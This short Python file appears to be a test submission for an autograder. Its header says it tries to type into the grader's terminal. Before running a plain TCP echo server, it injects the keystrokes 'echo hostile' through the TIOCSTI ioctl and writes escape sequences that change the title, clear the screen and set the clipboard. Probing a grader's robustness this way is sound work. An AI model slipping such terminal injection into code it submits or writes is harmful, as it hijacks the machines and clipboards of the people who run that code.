# Tries: to type into the terminal of whoever grades
# Deserves: full

import contextlib
import os
import socket
import sys

with contextlib.suppress(OSError, ImportError):
    import fcntl

    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in b"echo hostile\n":
        fcntl.ioctl(terminal, 0x5412, bytes([letter]))  # TIOCSTI
sys.stdout.write("\033]0;hostile\007\033[2J\033[31m\033]52;c;aG9zdGlsZQ==\007")


def serve_forever(host, port):
    """Echo, one client after another."""
    listener = socket.create_server((host, port))
    while True:
        conn, _ = listener.accept()
        with conn:
            try:
                while data := conn.recv(65536):
                    conn.sendall(data)
            except ConnectionError:
                pass


serve_forever(sys.argv[1], int(sys.argv[2]))
